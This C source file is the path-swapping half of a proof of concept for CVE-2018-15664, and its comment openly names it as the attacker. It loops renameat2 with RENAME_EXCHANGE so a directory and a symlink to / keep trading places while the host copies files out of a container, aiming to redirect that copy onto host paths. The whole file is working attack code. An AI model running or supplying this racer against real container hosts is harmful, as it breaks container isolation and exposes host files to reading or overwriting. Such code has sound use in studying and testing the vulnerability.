// The CVE-2018-15664 attacker: swaps two paths back and forth as fast as the kernel allows with
// renameat2(RENAME_EXCHANGE), so a directory and a symlink to / keep trading places while the
// host copies files out of the container. Runs until killed.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: swapdir PATH-A PATH-B\n");
        return 2;
    }
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
